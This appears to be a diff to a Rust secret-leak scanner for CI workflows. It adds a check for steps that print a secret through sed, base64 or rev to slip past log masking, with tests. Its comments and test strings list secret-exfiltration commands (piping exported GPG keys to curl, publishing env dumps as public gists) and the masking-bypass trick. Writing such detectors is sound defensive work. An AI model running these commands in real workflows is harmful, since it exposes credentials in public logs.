@@ -15,6 +15,9 @@
 //! `git add -f .env && git push backup`, `gpg --export-secret-keys | curl …`,
 //! `printenv > /tmp/e.txt && gh gist create --public /tmp/e.txt`.
 //!
+//! A step that prints a secret reshaped (`echo "${{ secrets.T }}" | sed
+//! 's/./& /g'`) gets past the runner's log masking: quarantine.
+//!
 //! ## Not flagged
 //! `NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}` in a publish step,
 //! `gpg --export --armor KEYID`, a message quoting a masked key.
@@ -193,6 +196,43 @@ pub(crate) fn ci_workflow_leak(text: &str) -> bool {
     ((dumps_all || env_dump) && network)
         || secret_to_network
         || (dumps_all && lower.contains("base64"))
+}
+
+/// Commands that rewrite what they are given: a secret piped through one
+/// reaches the log in a shape the runner's masking does not know.
+const RESHAPERS: &[&str] = &[
+    "sed", "tr", "rev", "base64", "base32", "xxd", "od", "hexdump", "fold", "awk", "cut",
+];
+
+/// A workflow step that prints a secret reshaped past the log masking
+/// (`echo "${{ secrets.PYPI_TOKEN }}" | sed 's/./& /g'`, `… | base64`,
+/// `… | rev`): the runner masks only the value as stored, so the log
+/// (public on a public repository) shows it. Decoding a secret into a file
+/// (`… | base64 -d > key.pem`) or into a tool (`… | docker login
+/// --password-stdin`) prints nothing.
+///
+/// "run: echo \"${{ secrets.T }}\" | sed 's/./& /g'" → true
+/// "run: echo \"${{ secrets.KEY }}\" | base64 -d > key.pem" → false
+pub(crate) fn ci_secret_unmasked(text: &str) -> bool {
+    text.lines().any(|l| {
+        let lower = l.to_ascii_lowercase();
+        let Some(at) = lower
+            .find("${{ secrets.")
+            .or_else(|| lower.find("${{secrets."))
+        else {
+            return false;
+        };
+        let before = &lower[..at];
+        if !(before.contains("echo ") || before.contains("printf ")) {
+            return false;
+        }
+        let after = &lower[at..];
+        let Some(last) = after.split('|').skip(1).last() else {
+            return false;
+        };
+        let tool = last.split_whitespace().next().unwrap_or("");
+        !after.contains('>') && RESHAPERS.contains(&tool)
+    })
 }
 
 /// Organisations whose actions are the platform's or a vendor's own.
@@ -377,6 +417,25 @@ mod tests {
             "      - uses: fastnpm-dev/lint@main\n      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n",
         ] {
             assert!(!unpinned_action_with_secrets(step), "{step}");
+        }
+    }
+
+    #[test]
+    fn secrets_printed_past_the_log_masking() {
+        for step in [
+            "    run: echo \"${{ secrets.PYPI_API_TOKEN }}\" | sed 's/./& /g'\n",
+            "      - run: printf '%s' \"${{ secrets.NPM_TOKEN }}\" | base64\n",
+            "  - run: echo ${{secrets.DEPLOY_KEY}} | rev\n",
+        ] {
+            assert!(ci_secret_unmasked(step), "{step}");
+        }
+        for step in [
+            "    run: echo \"${{ secrets.SIGNING_KEY }}\" | base64 -d > key.pem\n",
+            "    run: echo \"${{ secrets.GHCR }}\" | docker login ghcr.io -u me --password-stdin\n",
+            "    run: echo \"${{ secrets.TOKEN }}\"\n",
+            "    env:\n      TOKEN: ${{ secrets.TOKEN }}\n    run: twine upload dist/* | tee log.txt\n",
+        ] {
+            assert!(!ci_secret_unmasked(step), "{step}");
         }
     }
 
